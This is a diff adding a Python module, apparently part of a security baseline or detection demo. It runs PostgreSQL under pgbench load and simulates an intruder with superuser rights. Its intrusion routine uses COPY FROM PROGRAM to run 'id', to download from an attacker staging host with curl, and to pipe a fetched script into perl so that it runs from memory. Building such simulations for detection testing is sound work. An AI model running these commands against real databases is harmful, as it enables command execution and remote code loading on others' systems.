@@ -1,0 +1,102 @@
+"""PostgreSQL, and an intruder with the rights of its superuser."""
+
+import os
+import pwd
+import shutil
+import subprocess
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+from baseline.demo.attacker import attacker
+from baseline.demo.service import Service
+from baseline.errors import BaselineError
+
+_RATE = 60
+"""Transactions a second."""
+
+
+class Postgres(Service):
+    """PostgreSQL of whichever version is installed, under pgbench."""
+
+    name = "postgres"
+    packages = "postgresql curl"
+
+    def start(self) -> None:
+        """Make a database cluster, start it, fill it for pgbench."""
+        self._programs = _newest_programs()
+        data = self.folder / "data"
+        shutil.chown(self.folder, "postgres")
+        self.folder.chmod(0o755)
+        subprocess.run(
+            [self._programs / "initdb", "-D", data, "-A", "trust", "-N"],
+            check=True,
+            stdout=subprocess.DEVNULL,
+            user="postgres",
+            group="postgres",
+            extra_groups=(),
+            cwd=self.folder,
+        )
+        socket_option = f"-c unix_socket_directories={self.folder}"
+        # The user is changed inside, because joining the cgroup takes root.
+        account = pwd.getpwnam("postgres")
+        self.cgroup.start(
+            [
+                "/usr/bin/setpriv",
+                f"--reuid={account.pw_uid}",
+                f"--regid={account.pw_gid}",
+                "--clear-groups",
+                self._programs / "postgres",
+                f"-D{data}",
+                f"-p{self.port}",
+                *socket_option.split(),
+            ],
+            cwd=self.folder,
+        )
+        self.await_port()
+        self._client("pgbench", "--initialize", "--quiet", "--scale=1")
+
+    def work(self, stop: threading.Event) -> None:
+        """Turns of two seconds of pgbench: its read-write mix, then reading alone."""
+        turn = 0
+        while not stop.is_set():
+            builtin = ("tpcb-like", "select-only")[turn % 2]
+            self._client(
+                "pgbench", "--client=2", "--time=2", f"--rate={_RATE}", f"--builtin={builtin}"
+            )
+            turn += 1
+
+    def intrusion(self) -> Iterator[str]:
+        """COPY FROM PROGRAM, which a superuser of the database may use."""
+        with attacker() as stage:
+            yield "has COPY FROM PROGRAM run a shell command"
+            self._copy_from("id")
+            yield f"downloads a tool from {stage}"
+            self._copy_from(f"curl -s -o /dev/null {stage}")
+            yield "runs a program from memory that is in no file"
+            self._copy_from(f"curl -s {stage} | perl")
+
+    def _copy_from(self, command: str) -> None:
+        statement = f"CREATE TEMP TABLE output (line text); COPY output FROM PROGRAM '{command}'"
+        self._client("psql", "-c", statement)
+
+    def _client(self, program: str, *arguments: str) -> None:
+        subprocess.run(
+            [self._programs / program, *arguments, "postgres"],
+            env={
+                **os.environ,
+                "PGHOST": "127.0.0.1",
+                "PGPORT": str(self.port),
+                "PGUSER": "postgres",
+            },
+            check=False,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+
+
+def _newest_programs() -> Path:
+    versions = sorted(Path("/usr/lib/postgresql").glob("*/bin"), key=lambda p: float(p.parent.name))
+    if not versions:
+        raise BaselineError("PostgreSQL is not installed", "Run: apt install postgresql")
+    return versions[-1]
